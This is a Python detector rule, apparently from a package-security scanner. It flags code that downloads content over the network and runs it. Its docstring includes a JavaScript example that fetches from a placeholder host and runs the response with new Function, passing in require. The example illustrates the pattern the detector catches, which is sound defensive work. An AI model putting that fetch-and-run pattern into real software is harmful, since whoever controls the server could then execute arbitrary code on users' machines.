"""Code is loaded over the network and run.

*What it does*

Follows values backwards from every call that runs a text as code (`eval`, `Function`, `vm`, `_compile`) or starts
a process, and speaks where the text may come from an answer of the network: through callbacks, promises, `await`, and
pieces that are put together.

*Why it matters*

What such a package does is decided by whoever answers, at any later time, differently for everybody. No review and no
lockfile covers it.

*Example*

    const axios = require("axios");
    axios.get("https://assets.acme.invalid/theme").then((answer) => {
      new Function("require", answer.data)(require);
    });
"""

from __future__ import annotations

from collections.abc import Iterator

from assay.detectors.source._acts import is_command
from assay.detectors.source._flows import confidence, sinks, softened, when
from assay.model.finding import Finding, finding
from assay.model.rule import Concern, Confidence, Rule, Severity
from assay.model.source import BehaviourKind
from assay.model.subject import Subject

RULE = Rule(
    id="remote-code-run",
    title="Runs code that it loads over the network",
    severity=Severity.HIGH,
    concern=Concern.MALICE,
    advice="Do not install or run it: what it does can change at any time.",
    techniques=("T1105", "T1059.007"),
)
_SOURCES = frozenset({BehaviourKind.NETWORK})
_TARGETS = frozenset({BehaviourKind.DYNAMIC_CODE, BehaviourKind.PROCESS})


def detect(subject: Subject) -> Iterator[Finding]:
    """One finding for each call that runs what came over the network."""
    for sink in sinks(subject, _SOURCES, _TARGETS):
        is_code = sink.behaviour.kind is BehaviourKind.DYNAMIC_CODE
        yield finding(
            RULE,
            f"{subject.ref} runs what it loads over the network {when(sink.file)}",
            *sink.evidence(f"{sink.behaviour.detail} runs what {sink.sources[0].detail} brought"),
            # what a command of the user's starts by an answer may well be what the user asked it for
            severity=softened(sink.file, RULE.severity if is_code or not is_command(sink.file) else Severity.MEDIUM),
            confidence=confidence(sink.file, Confidence.HIGH if is_code else Confidence.MEDIUM),
        )
